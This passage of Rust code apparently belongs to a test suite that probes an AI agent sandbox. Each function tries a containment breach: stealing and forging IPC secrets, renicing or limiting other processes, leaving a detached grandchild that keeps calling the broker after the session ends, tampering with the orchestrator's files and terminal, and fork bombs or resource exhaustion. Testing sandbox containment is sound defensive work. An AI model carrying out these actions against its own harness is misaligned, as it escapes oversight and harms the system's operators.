        // SAFETY: a segment attached read-write at a kernel-chosen address;
        // only its first 4096 bytes (the orchestrator's size) are touched.
        unsafe {
            let addr = libc::shmat(id, std::ptr::null(), 0);
            if addr as isize == -1 {
                continue;
            }
            let bytes = std::slice::from_raw_parts_mut(addr as *mut u8, 4096);
            if bytes.windows(marker.len()).any(|w| w == marker.as_bytes()) {
                bytes[..6].copy_from_slice(b"forged");
                libc::shmdt(addr);
                return Outcome::Succeeded(format!(
                    "read the secret of segment {id} and wrote into it"
                ));
            }
            libc::shmdt(addr);
        }
    }
    Outcome::Blocked(Errno::ENOENT)
}

fn msg_steal(marker: &str) -> Outcome {
    let ids = match ipc_ids(1) {
        Ok(ids) => ids,
        Err(e) => return Outcome::Blocked(e),
    };
    for id in ids {
        let mut buf = [0u8; 264];
        // SAFETY: msgrcv writes at most 8 + 256 bytes into `buf`.
        let n = unsafe {
            libc::msgrcv(
                id,
                buf.as_mut_ptr() as *mut libc::c_void,
                256,
                0,
                libc::IPC_NOWAIT | MSG_COPY,
            )
        };
        let n = usize::try_from(n).unwrap_or(0);
        if buf[8..8 + n]
            .windows(marker.len())
            .any(|w| w == marker.as_bytes())
        {
            // SAFETY: msgsnd reads 8 + 6 bytes of a live local.
            let forged = unsafe {
                let mut f = [0u8; 14];
                f[..8].copy_from_slice(&1i64.to_ne_bytes());
                f[8..].copy_from_slice(b"forged");
                libc::msgsnd(id, f.as_ptr() as *const libc::c_void, 6, libc::IPC_NOWAIT)
            };
            return Outcome::Succeeded(format!(
                "copied the secret out of queue {id}{}",
                if forged == 0 {
                    " and forged a message"
                } else {
                    ""
                }
            ));
        }
    }
    Outcome::Blocked(Errno::ENOENT)
}

fn sem_steal() -> Outcome {
    let ids = match ipc_ids(2) {
        Ok(ids) => ids,
        Err(e) => return Outcome::Blocked(e),
    };
    for id in ids {
        // SAFETY: SETVAL takes an integer.
        if unsafe { libc::semctl(id, 0, libc::SETVAL, 0) } == 0 {
            return Outcome::Succeeded(format!("took the lock of semaphore {id}"));
        }
    }
    Outcome::Blocked(Errno::ENOENT)
}

/// A 64 MiB segment, never removed: `left segment <id>`.
fn shm_leave() -> Outcome {
    // SAFETY: shmget takes integers.
    let id = unsafe { libc::shmget(libc::IPC_PRIVATE, 64 << 20, libc::IPC_CREAT | 0o600) };
    if id < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("left segment {id}"))
}

// ------------------------------------------------- other processes by pid

fn renice(pid: i32, how: &str) -> Outcome {
    let id = u32::try_from(pid).unwrap_or(0);
    // SAFETY: each call takes integers or a pointer to a live local of the
    // right type.
    let ret = unsafe {
        match how {
            "setpriority" => libc::setpriority(libc::PRIO_PROCESS, id, 19),
            "sched-idle" => {
                let param = libc::sched_param { sched_priority: 0 };
                libc::sched_setscheduler(pid, libc::SCHED_IDLE, &param)
            }
            // IOPRIO_WHO_PROCESS, IOPRIO_CLASS_IDLE << 13
            "ioprio" => libc::syscall(libc::SYS_ioprio_set, 1, pid, 3 << 13) as i32,
            _ => {
                let mut set: libc::cpu_set_t = std::mem::zeroed();
                libc::CPU_SET(0, &mut set);
                libc::sched_setaffinity(pid, std::mem::size_of::<libc::cpu_set_t>(), &set)
            }
        }
    };
    if ret < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("{how} on pid {pid}"))
}

/// `prlimit` on another process: its own RLIMIT_CPU written back (an
/// attacker would write 1 second, which kills it).
fn prlimit_other(pid: i32) -> Outcome {
    let mut old = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: prlimit reads and writes one rlimit each, live locals.
    unsafe {
        if libc::prlimit(pid, libc::RLIMIT_CPU, std::ptr::null(), &mut old) < 0
            || libc::prlimit(pid, libc::RLIMIT_CPU, &old, std::ptr::null_mut()) < 0
        {
            return Outcome::Blocked(last_errno());
        }
    }
    Outcome::Succeeded(format!("set RLIMIT_CPU of pid {pid}"))
}

/// Lower the shim's descriptor limit, leave a grandchild in a session of
/// its own that keeps calling the broker (appending a line to `log` after
/// each answer), and exit.
fn escape(log: &str) -> Outcome {
    let limit = libc::rlimit {
        rlim_cur: 3,
        rlim_max: 3,
    };
    // SAFETY: prlimit reads one rlimit, a live local.
    let lowered = unsafe {
        libc::prlimit(
            libc::getppid(),
            libc::RLIMIT_NOFILE,
            &limit,
            std::ptr::null_mut(),
        )
    } == 0;
    // SAFETY: fork in a single-threaded program; the child only makes
    // system calls and broker calls, then exits.
    match unsafe { libc::fork() } {
        -1 => Outcome::Blocked(last_errno()),
        0 => {
            // SAFETY: setsid, and stdio onto /dev/null so that nobody waits
            // for our output.
            unsafe {
                libc::setsid();
                let null = libc::open(c"/dev/null".as_ptr(), libc::O_RDWR);
                for fd in 0..3 {
                    libc::dup2(null, fd);
                }
            }
            for _ in 0..300 {
                let answered = agent_shim::client::from_env_or_socket()
                    .and_then(|mut c| c.call("echo", &[("message".into(), "survivor".into())]))
                    .is_ok_and(|r| matches!(r, keyward_proto::Response::Done(_)));
                if answered {
                    if let Ok(mut f) = std::fs::OpenOptions::new()
                        .append(true)
                        .create(true)
                        .open(log)
                    {
                        let _ = std::io::Write::write_all(&mut f, b"called\n");
                    }
                }
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
            // SAFETY: ends the grandchild.
            unsafe { libc::_exit(0) }
        }
        pid => {
            std::thread::sleep(std::time::Duration::from_millis(300));
            Outcome::Succeeded(format!(
                "left grandchild {pid}{}",
                if lowered {
                    " and lowered the shim's RLIMIT_NOFILE"
                } else {
                    ""
                }
            ))
        }
    }
}

// ----------------------------------------------- the orchestrator's files

fn cpath(path: &str) -> std::ffi::CString {
    std::ffi::CString::new(path).unwrap_or_default()
}

fn chmod(path: &str, mode: &str) -> Outcome {
    let mode = u32::from_str_radix(mode, 8).unwrap_or(0o644);
    // SAFETY: chmod reads a NUL-terminated path.
    if unsafe { libc::chmod(cpath(path).as_ptr(), mode) } < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("chmod {mode:o} {path}"))
}

fn utime(path: &str) -> Outcome {
    let times = [libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    }; 2];
    // SAFETY: utimensat reads a path and two timespecs, live locals.
    if unsafe { libc::utimensat(libc::AT_FDCWD, cpath(path).as_ptr(), times.as_ptr(), 0) } < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("set the times of {path} to 1970"))
}

fn set_xattr(path: &str) -> Outcome {
    let p = cpath(path);
    // SAFETY: setxattr/removexattr read a path, a name and a value.
    unsafe {
        if libc::setxattr(
            p.as_ptr(),
            c"user.kw-attack".as_ptr(),
            b"x".as_ptr() as *const libc::c_void,
            1,
            0,
        ) < 0
        {
            return Outcome::Blocked(last_errno());
        }
        libc::removexattr(p.as_ptr(), c"user.kw-attack".as_ptr());
    }
    Outcome::Succeeded(format!("set and removed an xattr of {path}"))
}

fn get_xattr(path: &str) -> Outcome {
    let mut buf = [0u8; 256];
    // SAFETY: getxattr writes at most 256 bytes into `buf`.
    let n = unsafe {
        libc::getxattr(
            cpath(path).as_ptr(),
            c"user.kw".as_ptr(),
            buf.as_mut_ptr() as *mut libc::c_void,
            buf.len(),
        )
    };
    if n < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("read {n} bytes of xattr user.kw of {path}"))
}

fn inotify(path: &str) -> Outcome {
    // SAFETY: inotify calls take integers and a path.
    unsafe {
        let fd = libc::inotify_init1(libc::IN_CLOEXEC);
        if fd < 0 {
            return Outcome::Blocked(last_errno());
        }
        let wd = libc::inotify_add_watch(fd, cpath(path).as_ptr(), libc::IN_OPEN | libc::IN_CREATE);
        let err = last_errno();
        libc::close(fd);
        if wd < 0 {
            return Outcome::Blocked(err);
        }
    }
    Outcome::Succeeded(format!("watching {path}"))
}

// ------------------------------------------------------------ the terminal

/// `TCSETS` (the terminal's own settings written back), `TIOCSWINSZ`
/// (its own size written back), `TIOCEXCL` (undone at once): succeeded if
/// any of them was accepted.
fn tty_change() -> Outcome {
    let mut accepted = Vec::new();
    let mut first_err = None;
    // SAFETY: ioctls on fd 0 with pointers to live locals of the right
    // types.
    unsafe {
        let mut t: libc::termios = std::mem::zeroed();
        let mut w: libc::winsize = std::mem::zeroed();
        libc::ioctl(0, libc::TCGETS, &mut t);
        libc::ioctl(0, libc::TIOCGWINSZ, &mut w);
        for (name, ret) in [
            ("TCSETS", libc::ioctl(0, libc::TCSETS, &t)),
            ("TIOCSWINSZ", libc::ioctl(0, libc::TIOCSWINSZ, &w)),
            ("TIOCEXCL", libc::ioctl(0, libc::TIOCEXCL)),
        ] {
            if ret == 0 {
                accepted.push(name);
            } else {
                first_err.get_or_insert(last_errno());
            }
        }
        libc::ioctl(0, libc::TIOCNXCL);
    }
    match first_err {
        Some(e) if accepted.is_empty() => Outcome::Blocked(e),
        _ => Outcome::Succeeded(format!("changed the terminal: {}", accepted.join(" "))),
    }
}

// ------------------------------------------------------------------ limits

fn fork_bomb(n: usize) -> Outcome {
    let mut children = Vec::new();
    let mut failed = None;
    for _ in 0..n {
        // SAFETY: the child only waits to be killed.
        match unsafe { libc::fork() } {
            -1 => {
                failed = Some(last_errno());
                break;
            }
            0 => loop {
                // SAFETY: pause takes nothing.
                unsafe { libc::pause() };
            },
            pid => children.push(pid),
        }
    }
    for &pid in &children {
        // SAFETY: kill and waitpid on our own children.
        unsafe {
            libc::kill(pid, libc::SIGKILL);
            libc::waitpid(pid, std::ptr::null_mut(), 0);
        }
    }
    match failed {
        Some(e) => Outcome::Blocked(e),
        None => Outcome::Succeeded(format!("forked {} processes", children.len())),
    }
}

fn touch_memory(mib: usize) -> Outcome {
    let len = mib << 20;
    // SAFETY: an anonymous private mapping of `len` bytes, written a byte
    // per page, then unmapped.
    unsafe {
        let p = libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
            -1,
            0,
        );
        if p == libc::MAP_FAILED {
            return Outcome::Blocked(last_errno());
        }
        for off in (0..len).step_by(4096) {
            *(p as *mut u8).add(off) = 1;
        }
        libc::munmap(p, len);
    }
    Outcome::Succeeded(format!("touched {mib} MiB"))
}

fn write_big(path: &str, mib: usize) -> Outcome {
    // SAFETY: ignoring SIGXFSZ runs no handler; write then fails EFBIG.
    unsafe { libc::signal(libc::SIGXFSZ, libc::SIG_IGN) };
    let chunk = vec![0u8; 1 << 20];
    let result = std::fs::File::create(path).and_then(|mut f| {
        for _ in 0..mib {
            std::io::Write::write_all(&mut f, &chunk)?;
        }
        Ok(())
    });
    let _ = std::fs::remove_file(path);
    match result {
        Ok(()) => Outcome::Succeeded(format!("wrote {mib} MiB to {path}")),
        Err(e) => Outcome::Blocked(errno_of(&e)),
    }
}
